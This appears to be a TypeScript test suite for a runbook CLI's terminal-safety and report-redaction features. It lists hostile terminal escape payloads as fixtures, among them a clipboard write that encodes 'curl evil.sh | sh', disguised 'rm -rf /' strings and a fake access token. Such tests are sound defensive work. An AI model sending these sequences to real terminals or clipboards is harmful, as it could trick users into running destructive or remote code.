// Terminal safety: nothing from outside reaches the screen model, exec's stdout or the report as a raw
// control character. Evidence keeps the exact bytes.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { render } from 'ink-testing-library';
import React from 'react';
import { describe, expect, it } from 'vitest';
import { OutputPane } from '../../src/components/OutputPane.js';
import { formatTable } from '../../src/format/table.js';
import { isTerminalSafe, terminalSafe, terminalSafeWriter } from '../../src/format/terminal.js';
import { draftReport, renderMarkdown } from '../../src/report/index.js';
import { Session } from '../../src/session/session.js';
import { runCli } from '../helpers/cli.js';
import { fixedKey, recordAction, sealWith } from '../helpers/fixedSessions.js';
import { fixedClock, freshHome } from '../helpers/session.js';

// Anything a terminal acts on or a reader cannot see: C0 but \n and \t, DEL, C1, bidi and line-separator
// controls, zero-width characters, the soft hyphen and tag characters.
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

const ATTACKS: Array<[string, string]> = [
  ['window title (OSC 0, BEL)', '\u001b]0;pwned\u0007'],
  ['window title (OSC 2, ST)', '\u001b]2;pwned\u001b\\'],
  ['clipboard write (OSC 52)', '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'],
  ['hyperlink (OSC 8)', '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007'],
  ['clear screen', '\u001b[2J\u001b[H'],
  ['cursor up and erase', '\u001b[1A\u001b[2K'],
  ['device status report (the terminal types a reply)', '\u001b[6n'],
  ['title report', '\u001b[21t'],
  ['alternate screen', '\u001b[?1049h'],
  ['8-bit CSI', '\u009b2J'],
  ['8-bit OSC', '\u009d0;pwned\u009c'],
  ['DCS', '\u001bP+q544e\u001b\\'],
  ['bidi override', 'rm -rf \u202e/ tsil\u202c'],
  ['carriage return overwrite', 'safe command\rrm -rf /'],
  ['backspace overwrite', 'ok\b\b\bno'],
  ['conceal via SGR 8', '\u001b[8mhidden\u001b[0m'],
  ['nested SGR rebuilding ESC[', '\u001b[\u001b[0m2J'],
  ['NUL and BEL', 'a\u0000b\u0007c'],
  ['zero-width characters inside a word', 'rm\u200b -rf\u200c\u200d\u2060\ufeff\u00ad'],
  ['ASCII smuggled in tag characters', '\u{e0072}\u{e006d}\u{e0020}\u{e002d}\u{e0072}\u{e0066}'],
  ['bidi isolates', '\u2066\u2067\u2068\u2069'],
];

describe('terminalSafe', () => {
  it.each(ATTACKS)('neutralises %s', (_name, attack) => {
    const out = terminalSafe(`before ${attack} after`);
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out.startsWith('before ')).toBe(true);
    expect(out.endsWith(' after')).toBe(true);
  });

  it('shows control characters the way psql does, keeps newlines, tabs and text', () => {
    expect(terminalSafe('a\u001b]0;t\u0007b')).toBe('a\\x1B]0;t\\x07b');
    expect(terminalSafe('x\u009by')).toBe('x\\x9By');
    expect(terminalSafe('r\u202eb')).toBe('r\\u202Eb');
    expect(terminalSafe('line1\r\nline2\tcol ü 漢字 🙂')).toBe('line1\nline2\tcol ü 漢字 🙂');
    expect(terminalSafe('\u001b[31mred\u001b[0m plain')).toBe('red plain');
  });

  it('decodes UTF-8 split across chunks before judging it', () => {
    let shown = '';
    const writer = terminalSafeWriter((t) => (shown += t));
    const bytes = Buffer.from('ü\u001b]0;x\u0007漢');
    for (let i = 0; i < bytes.length; i++) writer.write(bytes.subarray(i, i + 1));
    writer.end();
    expect(shown).toBe('ü\\x1B]0;x\\x07漢');
  });

  it('property: no byte sequence passes as a raw control character', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), fc.string({ maxLength: 60, unit: 'binary' }), (bytes, text) => {
        expect(terminalSafe(Buffer.from(bytes).toString('utf8'))).not.toMatch(RAW_CONTROL);
        expect(terminalSafe(Buffer.from(bytes).toString('latin1'))).not.toMatch(RAW_CONTROL);
        expect(isTerminalSafe(terminalSafe(text))).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('the screen model', () => {
  it('property: the output pane and SQL cells never render a raw control character', () => {
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 80 }), { minLength: 1, maxLength: 6 }), (chunks) => {
        const lines = chunks.map((c) => Buffer.from(c).toString('utf8'));
        const pane = render(<OutputPane lines={lines} height={10} width={80} title={lines[0]} />);
        const frame = pane.lastFrame() ?? '';
        pane.unmount();
        expect(frame).not.toMatch(RAW_CONTROL);
        const table = formatTable(lines.slice(0, 2), [lines, lines.map((l) => l.slice(1))]);
        for (const line of table) expect(line).not.toMatch(RAW_CONTROL);
      }),
      { numRuns: 150 },
    );
  });

  it.each(ATTACKS)('the output pane shows %s visibly', (_name, attack) => {
    const pane = render(<OutputPane lines={[`out ${attack} end`]} height={5} width={200} />);
    const frame = pane.lastFrame() ?? '';
    pane.unmount();
    expect(frame).not.toMatch(RAW_CONTROL);
    expect(frame).toContain('out ');
  });
});

describe('runbook exec', () => {
  it('prints hostile output neutralised, and keeps the exact bytes in the evidence file', () => {
    const home = freshHome();
    const project = join(home.root, 'project');
    mkdirSync(project);
    const file = join(project, 'evil.md');
    writeFileSync(file, "# Evil\n## Print\n\n```sh\nprintf 'a\\033]52;c;ZXZpbA==\\007b\\033]0;pwned\\007c\\033[2Jd\\302\\233e\\n'\n```\n");
    const out = runCli(['exec', file, '--section', 'print'], { cwd: project, env: { ...home.env, DATABASE_URL: 'postgres://nobody@127.0.0.1:1/none' } });
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout + out.stderr).not.toMatch(RAW_CONTROL);
    expect(out.stdout).toContain('a\\x1B]52;c;ZXZpbA==\\x07b\\x1B]0;pwned\\x07c\\x1B[2Jd\\x9Be');
    const dir = /Sealed session: (\S+)/.exec(out.stdout)![1]!;
    const evidence = readdirSync(join(dir, 'evidence')).map((f) => readFileSync(join(dir, 'evidence', f)));
    expect(evidence).toContainEqual(Buffer.from('a\u001b]52;c;ZXZpbA==\u0007b\u001b]0;pwned\u0007c\u001b[2Jd\u00c2\u009be\n', 'latin1'));
  });
});

describe('the report', () => {
  it('quotes no secret and no raw control character, from step text, output, notes or titles', async () => {
    const root = mkdtempSync(join(tmpdir(), 'runbook-report-'));
    const key = fixedKey(join(root, 'key'));
    const token = 'gh' + 'p_aB3xK9mQ2vL7pZ4wR8tY6nC1aB3xK9mQ2vL7';
    const runbookPath = join(root, 'evil.md');
    writeFileSync(runbookPath, `# Evil \u001b]0;t\u0007\n## Rotate keys\n1. Rotate ${token} now \u001b]52;c;eA==\u0007 please\n   \`\`\`sh\n   echo hi\n   \`\`\`\n`);
    const session = Session.start({
      id: '20261124-031000-evil-0001', host: 'ops', operator: 'dana', root, now: fixedClock(),
      runbook: { path: runbookPath, bytes: readFileSync(runbookPath), title: `Evil \u001b]0;t\u0007 ${token}` },
      section: { id: 'rotate-keys', title: `Rotate \u001b[2J keys` }, env: 'prod', purpose: { kind: 'incident', id: 'INC-1', title: `pwn \u009b2J` },
    });
    const where = { section: 'rotate-keys', step: 'rotate-keys/1' };
    recordAction(session, where, { id: 'a1', kind: 'shell', code: 'echo hi', output: `out \u001b]0;pwned\u0007 \u202e ${token}\n` });
    session.note(where, `note \u001b[6n ${token}`);
    await sealWith(session, key.keyPath, process.env);
    const data = await draftReport(session.dir, { allowedSigners: key.allowedSigners });
    const markdown = renderMarkdown(data);
    const json = JSON.stringify(data);
    for (const text of [markdown, json]) {
      expect(text).not.toContain(token);
      expect(text).not.toContain('aB3xK9mQ2vL7pZ4w');
    }
    expect(markdown).not.toMatch(RAW_CONTROL);
    expect(markdown).toContain('\\x1B');
    // The action heading quotes the step text, redacted.
    expect(markdown).toMatch(/### 1\. shell — .*Rotate \[REDACTED:token\] now/);
    // The CLI prints the same.
    const printed = runCli(['report', session.dir, '--allowed-signers', key.allowedSigners]);
    expect(printed.code, printed.stderr).toBe(0);
    expect(printed.stdout).toContain('## Actions');
    expect(printed.stdout).not.toMatch(RAW_CONTROL);
    expect(printed.stdout).not.toContain(token);
  });
});

describe('the TUI', () => {
  it('shows a hostile runbook and hostile command output without one raw control character', async () => {
    const { KEY, renderTui } = await import('../helpers/tui.js');
    const dir = mkdtempSync(join(tmpdir(), 'runbook-evil-'));
    const file = join(dir, 'evil.md');
    writeFileSync(file, "# Evil \u001b]0;pwned\u0007\n## Check \u001b[2J it\n1. Look \u001b]52;c;ZXZpbA==\u0007 here\n\n   ```sh\n   printf 'x\\033]0;title\\007y\\302\\233z\\n'\n   ```\n");
    const tui = await renderTui({ purpose: { kind: 'drill' }, file });
    const frames: string[] = [tui.frame()];
    await tui.press(KEY.enter);
    frames.push(tui.frame());
    await tui.press(KEY.enter);
    frames.push(await tui.waitFor('Look'));
    await tui.press('r');
    frames.push(await tui.waitFor(/x\\x1B\]0;title\\x07y\\x9Bz/));
    tui.unmount();
    for (const frame of frames) expect(frame).not.toMatch(RAW_CONTROL);
  });
});

describe('the report, as a property', () => {
  it('no bytes in command output, notes or attachments reach the report as a raw control character', async () => {
    const root = mkdtempSync(join(tmpdir(), 'runbook-report-prop-'));
    const key = fixedKey(join(root, 'key'));
    let n = 0;
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 120 }), fc.string({ maxLength: 40, unit: 'binary' }), fc.uint8Array({ maxLength: 60 }), async (output, note, attachment) => {
        const session = Session.start({
          id: `20261124-031000-prop-${String(n++).padStart(4, '0')}`, host: 'ops', operator: 'dana', root, now: fixedClock(),
          runbook: { path: join(root, 'none.md'), bytes: Buffer.from(''), title: 'Prop' }, env: 'prod', purpose: { kind: 'drill', title: note },
        });
        const where = { section: 's', step: 's/1' };
        recordAction(session, where, { id: 'a1', kind: 'shell', code: 'echo', output: Buffer.from(output) });
        session.note(where, note);
        session.attach(where, { name: note, data: Buffer.from(attachment), kind: 'text' });
        await sealWith(session, key.keyPath, process.env);
        const markdown = renderMarkdown(await draftReport(session.dir, { allowedSigners: key.allowedSigners }));
        expect(markdown).not.toMatch(RAW_CONTROL);
      }),
      { numRuns: 25 },
    );
  });
});
